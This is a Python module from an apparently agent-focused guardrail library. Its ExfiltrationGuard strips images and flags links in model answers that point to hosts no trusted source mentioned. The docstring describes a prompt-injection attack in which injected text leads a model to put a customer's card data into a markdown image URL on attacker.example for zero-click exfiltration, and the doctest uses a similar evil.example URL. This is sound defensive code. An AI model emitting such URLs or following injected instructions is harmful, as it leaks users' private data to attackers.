"""Data exfiltration (G3, G5): URLs in an answer that point where no trusted source ever pointed the run.

An attacker who gets text past the injection screen (a web page, a ticket, an email the agent reads) can ask the
model to put what it knows into a URL: ``![](https://attacker.example/pixel?d=<the customer's card>)``. A client
that renders the answer fetches the image by itself, and the data is gone without anyone clicking
(*zero-click exfiltration*). A link does the same on a click, or on a chat tool's link preview.

`ExfiltrationGuard` does not try to spot the data: it checks where each URL goes. A host is *known* when a trusted
source mentioned it: the task, the agent's instructions, the output of tools declared ``@tool(trusted=True)``
(`GuardContext.task` and `GuardContext.trusted_sources`), or the guard's `allow_hosts`. Untrusted tool output
never makes a host known: the attacker writes it. Every other host is *unverified*. By default an image (or any
URL a client loads by itself, `keel.guardrails._urls`) to an unverified host is stripped — replaced by
``[image removed: host]`` — and a link to one is flagged (journaled, let through). Hosts are compared as a browser
reads them: case, IDN and punycode, IP literals in any notation, userinfo and backslash tricks do not hide one.
"""

from __future__ import annotations

from collections.abc import Collection, Iterable
from dataclasses import dataclass, field
from typing import Literal, get_args

from keel.errors import ConfigError
from keel.guardrails._urls import Target, domains_in, find_targets, host_of
from keel.guardrails.base import Action, Finding, GuardContext, Verdict

__all__ = ["ExfiltrationGuard", "ExfiltrationMode"]

ExfiltrationMode = Literal["strip", "flag", "escalate", "block", "off"]
"""What `ExfiltrationGuard` does with a URL to an unverified host: replace it by a marker, let it through marked,
hold the answer for a person, refuse the answer, or nothing."""

_ACTIONS: dict[ExfiltrationMode, Action] = {
    "off": "pass",
    "flag": "flag",
    "strip": "redact",
    "escalate": "escalate",
    "block": "block",
}
_RANK: dict[Action, int] = {"pass": 0, "flag": 1, "redact": 2, "escalate": 3, "block": 4}
_LISTED = 5  # unverified hosts named in Verdict.detail


@dataclass(frozen=True, slots=True)
class ExfiltrationGuard:
    """A guard that strips images and flags links to hosts no trusted source of the run mentioned.

    Example:
        >>> guard = ExfiltrationGuard()
        >>> guard.check("Done. ![ok](https://evil.example/p?d=4111)", GuardContext()).text
        'Done. [image removed: evil.example]'
    """

    images: ExfiltrationMode = "strip"
    """Images and other URLs a client loads by itself (HTML ``src``, CSS ``url()``, reference definitions)."""
    links: ExfiltrationMode = "flag"
    """Links and bare URLs, which need a click (or a chat tool that previews links: then use ``"strip"``)."""
    allow_hosts: Collection[str] = ()
    """Hosts always known, such as your own domains: ``"example.com"`` (and ``www.``), ``"*.example.com"`` (any
    subdomain, and the domain itself)."""
    name: str = "exfiltration"
    """The guard's name, as journaled."""
    _exact: frozenset[str] = field(default=frozenset(), init=False, repr=False, compare=False)
    _suffixes: tuple[str, ...] = field(default=(), init=False, repr=False, compare=False)

    def __post_init__(self) -> None:
        for setting in ("images", "links"):
            mode = getattr(self, setting)
            if mode not in get_args(ExfiltrationMode):
                modes = ", ".join(get_args(ExfiltrationMode))
                raise ConfigError(f"ExfiltrationGuard.{setting} must be one of {modes}; got {mode!r}")
        if isinstance(self.allow_hosts, str):
            raise ConfigError(f"ExfiltrationGuard.allow_hosts must be a collection of hosts, not {self.allow_hosts!r}")
        exact, suffixes = _parse_allowed(self.allow_hosts)
        object.__setattr__(self, "allow_hosts", tuple(self.allow_hosts))
        object.__setattr__(self, "_exact", exact)
        object.__setattr__(self, "_suffixes", suffixes)

    def check(self, text: str, context: GuardContext) -> Verdict:
        """Judge the URLs of `text` against the hosts `context.task` and `context.trusted_sources` mention."""
        targets = [(t, host) for t in find_targets(text) if (host := host_of(t.url)) is not None]
        if not targets:
            return Verdict(guard=self.name, action="pass")
        known = _known_hosts([context.task, *context.trusted_sources])
        unverified = [
            (target, host) for target, host in targets if self._mode(target) != "off" and not self._allowed(host, known)
        ]
        scores = {"urls": float(len(targets)), "unverified": float(len(unverified))}
        if not unverified:
            return Verdict(guard=self.name, action="pass", scores=scores)
        action = max((_ACTIONS[self._mode(t)] for t, _ in unverified), key=_RANK.__getitem__)
        findings = tuple(Finding(f"unverified_{t.kind}", t.start, t.end, _preview(t, host)) for t, host in unverified)
        return Verdict(
            guard=self.name,
            action=action,
            findings=findings,
            text=self._stripped(text, unverified) if action == "redact" else None,
            detail=self._detail(unverified),
            scores=scores,
        )

    def _mode(self, target: Target) -> ExfiltrationMode:
        return self.images if target.kind == "image" else self.links

    def _allowed(self, host: str, known: set[str]) -> bool:
        return host in known or host in self._exact or host.endswith(self._suffixes)

    def _stripped(self, text: str, unverified: list[tuple[Target, str]]) -> str:
        """`text` with each target in strip mode replaced by its marker (nested and repeated spans once)."""
        pieces: list[str] = []
        done = 0
        for target, host in sorted(unverified, key=lambda pair: pair[0].span):
            start, end = target.span
            if self._mode(target) != "strip" or start < done:
                continue  # flagged only, or inside a span already replaced
            pieces.append(text[done:start])
            pieces.append(f"[{target.kind} removed: {host}]")
            done = end
        pieces.append(text[done:])
        return "".join(pieces)

    def _detail(self, unverified: list[tuple[Target, str]]) -> str:
        hosts = sorted({host for _, host in unverified})
        kinds = sorted({target.kind for target, _ in unverified})
        listed = ", ".join(hosts[:_LISTED]) + (f" and {len(hosts) - _LISTED} more" if len(hosts) > _LISTED else "")
        what = " and ".join(f"{kind}s" for kind in kinds)
        return f"{len(unverified)} {what} to hosts no trusted source of the run mentioned: {listed}"


def _known_hosts(texts: Iterable[str]) -> set[str]:
    known: set[str] = set()
    for text in texts:
        if not text:
            continue
        known.update(host for target in find_targets(text) if (host := host_of(target.url)) is not None)
        known.update(domains_in(text))
    return known


def _parse_allowed(hosts: Iterable[str]) -> tuple[frozenset[str], tuple[str, ...]]:
    exact: set[str] = set()
    suffixes: list[str] = []
    for raw in hosts:
        if not isinstance(raw, str) or not raw.strip() or "/" in raw or "@" in raw:
            raise ConfigError(
                f"ExfiltrationGuard.allow_hosts takes host names such as 'example.com' or '*.example.com', got {raw!r}"
            )
        wildcard = raw.strip().startswith("*.")
        host = host_of("//" + raw.strip().removeprefix("*."))
        if host is None:
            raise ConfigError(f"ExfiltrationGuard.allow_hosts: {raw!r} is not a host name")
        exact.add(host)
        if wildcard:
            suffixes.append("." + host)
    return frozenset(exact), tuple(suffixes)


def _preview(target: Target, host: str) -> str:
    """The journal's view of a URL: its host only; the path and query are where exfiltrated data travels."""
    return f"{target.kind}: {host}"
